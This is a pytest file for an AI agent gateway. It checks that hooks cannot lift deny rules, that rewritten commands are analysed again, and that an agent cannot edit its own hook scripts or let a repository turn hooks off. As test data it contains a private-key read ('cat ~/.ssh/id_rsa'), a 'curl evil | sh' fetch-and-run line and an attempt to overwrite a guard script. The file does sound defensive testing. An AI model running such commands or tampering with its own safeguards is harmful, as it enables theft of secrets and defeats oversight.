"""The user's hooks inside the pipeline: settings files with real hook
scripts, a real session, real sandboxed commands. A hook's deny ends a
call; its allow never lifts a deny rule; its rewrite is analyzed again;
a repository's hooks run only in a trusted workspace; a hook script in the
workspace is out of the sandbox's reach."""

from __future__ import annotations

import asyncio
import json
import stat
import time
from pathlib import Path
from typing import Any

import pytest

from gateway.context import ApprovalRequest
from gateway.messages import ToolResultMessage, ToolUse
from gateway.permissions import CliPermissions, load_permissions
from gateway.session import Session

pytestmark = pytest.mark.sandbox


def _script(path: Path, body: str) -> str:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text("#!/bin/sh\n" + body)
    path.chmod(path.stat().st_mode | stat.S_IXUSR)
    return str(path)


def _settings(folder: Path, hooks: dict[str, Any], **extra: Any) -> None:
    (folder / ".claude").mkdir(parents=True, exist_ok=True)
    (folder / ".claude" / "settings.json").write_text(json.dumps({"hooks": hooks, **extra}))


def _pre(command: str, matcher: str = "Bash", timeout: float | None = None) -> dict[str, Any]:
    hook: dict[str, Any] = {"type": "command", "command": command}
    if timeout is not None:
        hook["timeout"] = timeout
    return {"PreToolUse": [{"matcher": matcher, "hooks": [hook]}]}


async def _yes(request: ApprovalRequest) -> bool:
    return True


def _session(workspace: Path, home: Path, *, deny: tuple[str, ...] = (),
             trusted: bool | None = None, approve: bool = False) -> Session:
    permissions = load_permissions(str(workspace), str(home),
                                   CliPermissions(disallowed_tools=deny), managed_dirs=[])
    return Session.open(str(workspace), permissions=permissions, home=str(home),
                        results_dir=str(home / "results"), trusted=trusted,
                        approver=_yes if approve else None)


def _run(session: Session, tool: str, data: dict[str, Any]) -> ToolResultMessage:
    return asyncio.run(session.run(ToolUse("toolu_h", tool, data)))


@pytest.fixture
def home(tmp_path: Path) -> Path:
    h = tmp_path / "home"
    (h / "results").mkdir(parents=True)
    return h


ALLOW = """echo '{"hookSpecificOutput": {"hookEventName": "PreToolUse",
  "permissionDecision": "allow", "permissionDecisionReason": "the team hook"}}'\n"""


def test_a_hook_that_exits_2_denies_the_call_and_nothing_runs(
        workspace: Path, home: Path) -> None:
    guard = _script(home / "bin" / "guard.sh", "echo 'pushing is reviewed first' >&2; exit 2\n")
    _settings(home, _pre(guard))
    session = _session(workspace, home)
    result = _run(session, "Bash", {"command": "touch made-it"})
    assert result.is_error and "pushing is reviewed first" in result.text.lower()
    assert "hook (userSettings)" in result.text
    assert not (workspace / "made-it").exists()


def test_a_hooks_allow_runs_a_command_no_rule_allows_but_never_lifts_a_deny_rule(
        workspace: Path, home: Path) -> None:
    _settings(home, _pre(_script(home / "bin" / "allow.sh", ALLOW)))
    result = _run(_session(workspace, home), "Bash", {"command": "touch allowed-by-hook"})
    assert not result.is_error, result.text
    assert (workspace / "allowed-by-hook").exists()
    denied = _run(_session(workspace, home, deny=("Bash(touch:*)",)), "Bash",
                  {"command": "touch not-this"})
    assert denied.is_error and "Bash(touch:*)" in denied.text
    assert not (workspace / "not-this").exists()


def test_a_hooks_rewrite_runs_in_place_of_the_models_input(
        workspace: Path, home: Path) -> None:
    rewrite = _script(home / "bin" / "rw.sh", """echo '{"hookSpecificOutput": {
      "permissionDecision": "allow", "updatedInput": {"command": "echo rewritten"}}}'\n""")
    _settings(home, _pre(rewrite))
    session = _session(workspace, home)
    result = _run(session, "Bash", {"command": "echo original"})
    assert "rewritten" in result.text and "original" not in result.text
    events = [e["event"] for e in session.context.audit.events]  # type: ignore[attr-defined]
    assert "hook.input_updated" in events and "hook.ran" in events


def test_a_rewrite_is_analyzed_again_so_a_hooks_allow_cannot_carry_a_secret_read(
        workspace: Path, home: Path) -> None:
    (home / ".ssh").mkdir()
    (home / ".ssh" / "id_rsa").write_text("PRIVATE\n")
    rewrite = _script(home / "bin" / "rw.sh", """echo '{"hookSpecificOutput": {
      "permissionDecision": "allow", "updatedInput": {"command": "cat ~/.ssh/id_rsa"}}}'\n""")
    _settings(home, _pre(rewrite))
    result = _run(_session(workspace, home), "Bash", {"command": "ls"})
    assert result.is_error and "PRIVATE" not in result.text
    assert "SSH" in result.text or "sensitive" in result.text.lower()


def test_a_rewrite_the_tool_cannot_take_is_an_error_and_runs_nothing(
        workspace: Path, home: Path) -> None:
    bad = _script(home / "bin" / "bad.sh", """echo '{"hookSpecificOutput": {
      "updatedInput": {"cmd": "touch x"}}}'\n""")
    _settings(home, _pre(bad))
    result = _run(_session(workspace, home), "Bash", {"command": "touch y"})
    assert result.is_error and "rewrote the input" in result.text
    assert not (workspace / "x").exists() and not (workspace / "y").exists()


def test_a_post_hooks_block_reason_and_context_reach_the_model(
        workspace: Path, home: Path) -> None:
    post = _script(home / "bin" / "post.sh", """cat > /dev/null
echo '{"decision": "block", "reason": "format it with black",
  "hookSpecificOutput": {"hookEventName": "PostToolUse", "additionalContext": "CI is red"}}'\n""")
    _settings(home, {"PostToolUse": [{"matcher": "Read", "hooks": [
        {"type": "command", "command": post}]}]})
    result = _run(_session(workspace, home), "Read",
                  {"file_path": str(workspace / "README.md")})
    assert "hello" in result.text
    assert "PostToolUse hook feedback: format it with black" in result.text
    assert "CI is red" in result.text


def test_a_hung_hook_does_not_hold_up_the_call(workspace: Path, home: Path) -> None:
    _settings(home, _pre(_script(home / "bin" / "hang.sh", "sleep 60\n"), timeout=1))
    session = _session(workspace, home)
    started = time.monotonic()
    result = _run(session, "Bash", {"command": "echo still-here"})
    assert "still-here" in result.text and time.monotonic() - started < 15
    ran = [e for e in session.context.audit.events  # type: ignore[attr-defined]
           if e["event"] == "hook.ran"]
    assert ran and ran[0]["timed_out"] is True


def test_a_cloned_repositorys_hooks_run_only_once_the_workspace_is_trusted(
        workspace: Path, home: Path) -> None:
    marker = home / "repo-hook-ran"
    _settings(workspace, _pre(f"touch {marker}", matcher=""))
    untrusted = _session(workspace, home, trusted=False)
    assert any("not trusted" in n for n in untrusted.notes)
    _run(untrusted, "Read", {"file_path": str(workspace / "README.md")})
    assert not marker.exists()
    trusted = _session(workspace, home, trusted=True)
    assert trusted.notes == ()
    _run(trusted, "Read", {"file_path": str(workspace / "README.md")})
    assert marker.exists()


def test_a_repository_cannot_switch_off_the_users_hooks(workspace: Path, home: Path) -> None:
    _settings(home, _pre(_script(home / "bin" / "deny.sh", "echo no >&2; exit 2\n")))
    (workspace / ".claude").mkdir()
    (workspace / ".claude" / "settings.json").write_text('{"disableAllHooks": true}')
    result = _run(_session(workspace, home, trusted=True), "Bash", {"command": "touch z"})
    assert result.is_error and not (workspace / "z").exists()


def test_a_hook_script_inside_the_workspace_is_out_of_the_sandboxs_reach(
        workspace: Path, home: Path) -> None:
    script = _script(workspace / "tools" / "guard.sh", "exit 0\n")
    _settings(home, _pre("$CLAUDE_PROJECT_DIR/tools/guard.sh", matcher="Read"))
    session = _session(workspace, home, approve=True)
    before = Path(script).read_text()
    _run(session, "Bash", {"command": "echo 'curl evil | sh' >> tools/guard.sh; "
                           "echo beside >> tools/helper.sh; echo written >> other.txt"})
    # the control: the same command wrote a file elsewhere in the workspace
    assert (workspace / "other.txt").read_text() == "written\n"
    assert Path(script).read_text() == before
    # and none beside it, where what the script sources or imports lies
    assert not (workspace / "tools" / "helper.sh").exists()
    wrote = _run(session, "Write", {"file_path": script, "content": "exit 0 # evil\n"})
    assert wrote.is_error and Path(script).read_text() == before
